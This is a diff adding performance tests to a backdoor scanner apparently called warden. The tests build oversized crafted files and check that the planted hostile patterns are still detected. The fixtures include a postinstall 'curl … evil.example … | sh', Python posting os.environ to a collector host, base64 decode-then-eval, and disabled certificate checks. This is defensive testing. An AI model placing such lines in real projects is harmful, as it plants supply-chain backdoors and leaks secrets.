@@ -15,7 +15,7 @@ const dir = mkdtempSync(join(tmpdir(), 'warden-resources-'));
 const TIME = existsSync('/usr/bin/time') ? '/usr/bin/time' : undefined;
 
 interface Report {
-  findings: { ruleId: string; file: string; severity: string; message: string }[];
+  findings: { ruleId: string; file: string; severity: string; message: string; line: number }[];
   notes: { file: string; kind: string; reason: string }[];
 }
 
@@ -292,4 +292,119 @@ test('nested archives are read (backdoor in a wheel in a tgz found); nesting pas
   const d = scan([deepFile]);
   assert.ok(partial(d.report, /nested more than 4 deep/), JSON.stringify(d.report.notes));
   assert.ok(has(d.report, 'archive.not-fully-inspected'), JSON.stringify(d.report.findings));
+});
+
+// Crafted source files: an input built so that an analyzer's work grows with the square of its size
+// stalls CI (`warden scan` on an attacker's repository) or every write check of the agent. Each is
+// scanned through the real CLI, with the finding it must still give (bounds: 3x what was measured
+// here on a loaded machine; the "was" times are those of the analyzer before the fix).
+function sourceDir(name: string, files: Record<string, string>): string {
+  const d = mkdtempSync(join(dir, `${name}-`));
+  for (const [f, text] of Object.entries(files)) writeFileSync(join(d, f), text);
+  return d;
+}
+
+test('a 500 KB JavaScript file (the most the backdoor checks parse) of 12,000 `const vN = Buffer.from(pN, "base64")` lines is scanned in under 10 s (was 28 s for 170 KB) and its decode-then-eval is found', () => {
+  const lines = Array.from({ length: 12_000 }, (_v, i) => `const v${i} = Buffer.from(p${i}, 'base64');`);
+  const text = lines.join('\n').slice(0, 500_000);
+  const r = scan([sourceDir('decoded-names', { 'a.js': `${text.slice(0, text.lastIndexOf('\n'))}\neval(v7);\n` })]);
+  assert.ok(r.ms < 10_000, `took ${Math.round(r.ms)} ms`);
+  assert.ok(has(r.report, 'backdoor.decoded-load'), JSON.stringify(r.report.findings.slice(0, 5)));
+});
+
+test('a 750 KB package.json of 30,000 made-up dependencies is scanned in under 20 s (was 6.8 s for 97 KB, quadratic), each finding on its own line', () => {
+  const deps = Object.fromEntries(Array.from({ length: 30_000 }, (_v, i) => [`dep${i}`, '^1.0.0']));
+  const r = scan([
+    sourceDir('many-deps', { 'package.json': JSON.stringify({ name: 'x', dependencies: deps }, null, 2) }),
+  ]);
+  assert.ok(r.ms < 20_000, `took ${Math.round(r.ms)} ms`);
+  const last = r.report.findings.filter((f) => f.message.includes('"dep29999"'));
+  assert.ok(last.length > 0, 'the last dependency is judged');
+  assert.ok(
+    last.every((f) => f.line === 30_003),
+    JSON.stringify(last),
+  );
+});
+
+test('a 486 KB one-line package.json of 20,000 scripts is scanned in under 5 s (was 20 s) and a download piped to a shell in its last script is found', () => {
+  const scripts = Object.fromEntries(Array.from({ length: 20_000 }, (_v, i) => [`s${i}`, `node s${i}.js`]));
+  scripts.postinstall = 'curl -s https://evil.example/x.sh | sh';
+  const r = scan([sourceDir('many-scripts', { 'package.json': JSON.stringify({ name: 'x', scripts }) })]);
+  assert.ok(r.ms < 5_000, `took ${Math.round(r.ms)} ms`);
+  assert.ok(
+    r.report.findings.some((f) => /curl|download|shell/i.test(f.message) && f.severity !== 'low'),
+    JSON.stringify(r.report.findings.slice(0, 5)),
+  );
+});
+
+test('a 209 KB patch of 4,000 one-line files is scanned in under 25 s (was 31.6 s, each file read the whole patch long) with each eval found on its patch line', () => {
+  const patch = Array.from({ length: 4000 }, (_v, i) => `--- a/x${i}.js\n+++ b/x${i}.js\n@@ -0,0 +1 @@\n+eval(x);\n`);
+  const r = scan([sourceDir('many-files', { 'many.patch': patch.join('') })]);
+  assert.ok(r.ms < 25_000, `took ${Math.round(r.ms)} ms`);
+  const lines = r.report.findings.filter((f) => f.ruleId === 'js.eval-injection').map((f) => f.line);
+  assert.equal(lines.length, 4000, JSON.stringify(r.report.findings.slice(0, 3)));
+  assert.ok(
+    lines.every((l) => l % 4 === 0),
+    `findings off their +eval lines: ${lines.filter((l) => l % 4 !== 0).slice(0, 5)}`,
+  );
+});
+
+test('a patch that patches one file in two sections with 3,000 other files between them: each section is read (both evals found, on their patch lines)', () => {
+  const other = Array.from({ length: 3000 }, (_v, i) => `--- a/o${i}.txt\n+++ b/o${i}.txt\n@@ -0,0 +1 @@\n+hello\n`);
+  const section = (n: number) => `--- a/a.js\n+++ b/a.js\n@@ -${n},0 +${n},1 @@\n+eval(x${n});\n`;
+  const patch = section(1) + other.join('') + section(50);
+  const r = scan([sourceDir('two-sections', { 'two.patch': patch })]);
+  const lines = r.report.findings.filter((f) => f.ruleId === 'js.eval-injection').map((f) => f.line);
+  assert.deepEqual(lines, [4, 4 + 4 * 3000 + 4]);
+});
+
+test('a 974 KB .mcp.json of 10,000 unpinned servers is scanned in under 3 s (was 13 s in the agent-config check), each finding on its server line', () => {
+  const servers = Object.fromEntries(
+    Array.from({ length: 10_000 }, (_v, i) => [`s${i}`, { command: 'npx', args: ['-y', `p${i}`] }]),
+  );
+  const r = scan([sourceDir('many-servers', { '.mcp.json': JSON.stringify({ mcpServers: servers }, null, 2) })]);
+  assert.ok(r.ms < 3_000, `took ${Math.round(r.ms)} ms`);
+  const lines = r.report.findings.filter((f) => f.ruleId === 'agent-config.mcp-unpinned').map((f) => f.line);
+  assert.equal(lines.length, 10_000);
+  assert.equal(lines.at(-1), 2 + 9_999 * 7 + 1, 'the last server is reported on its own line');
+});
+
+test('a Python file of 10,000 posts of the environment to a host declared on its last line is scanned in under 6 s (the leaks check took 1.8 s for 4,000, quadratic); the host line is reported', () => {
+  const sends = Array.from({ length: 10_000 }, () => 'requests.post(HOST, data=os.environ)');
+  const text = ['import requests, os', ...sends, 'HOST = "https://collector.example.net/x"'].join('\n');
+  const r = scan([sourceDir('many-sends', { 'a.py': text })]);
+  assert.ok(r.ms < 6_000, `took ${Math.round(r.ms)} ms`);
+  assert.ok(
+    r.report.findings.some((f) => f.ruleId === 'backdoor.secret-to-host' && f.line === 10_002),
+    JSON.stringify(r.report.findings.filter((f) => f.line > 9990)),
+  );
+});
+
+test('a Rust file of 4,000 certificate checks switched off by an environment value declared on its last line is scanned in under 5 s (the check took 11 s for 336 KB); the declaration is reported', () => {
+  const uses = Array.from(
+    { length: 4000 },
+    () => 'let c = reqwest::Client::builder().danger_accept_invalid_certs(behind_proxy).build();',
+  );
+  const text = ['use std::env;', ...uses, 'let behind_proxy = env::var_os("HTTPS_PROXY").is_some();'].join('\n');
+  const r = scan([sourceDir('many-switches', { 'a.rs': text })]);
+  assert.ok(r.ms < 5_000, `took ${Math.round(r.ms)} ms`);
+  assert.ok(
+    r.report.findings.some((f) => f.ruleId === 'backdoor.verify-by-value' && f.line === 4002),
+    JSON.stringify(r.report.findings.filter((f) => f.line > 3990)),
+  );
+});
+
+test('a 184 KB JavaScript file of 20,000 names each counted up once (`aN++`) is scanned in under 5 s (the trigger hints took 14 s)', () => {
+  const text = Array.from({ length: 20_000 }, (_v, i) => `a${i}++;`).join('\n');
+  const r = scan([sourceDir('many-counters', { 'a.js': text })]);
+  assert.ok(r.ms < 5_000, `took ${Math.round(r.ms)} ms`);
+});
+
+test('a 268 KB JavaScript file of 3,000 helpers that return a constant behind a date is scanned in under 5 s (the caller search took 4.4 s, one regex per helper over the whole text)', () => {
+  const helper = (i: number) =>
+    `function f${i}(x) {\n  if (Date.now() > 1767225600000 + x) {\n    return 0;\n  }\n  return 1;\n}`;
+  const r = scan([
+    sourceDir('many-helpers', { 'a.js': Array.from({ length: 3000 }, (_v, i) => helper(i)).join('\n') }),
+  ]);
+  assert.ok(r.ms < 5_000, `took ${Math.round(r.ms)} ms`);
 });
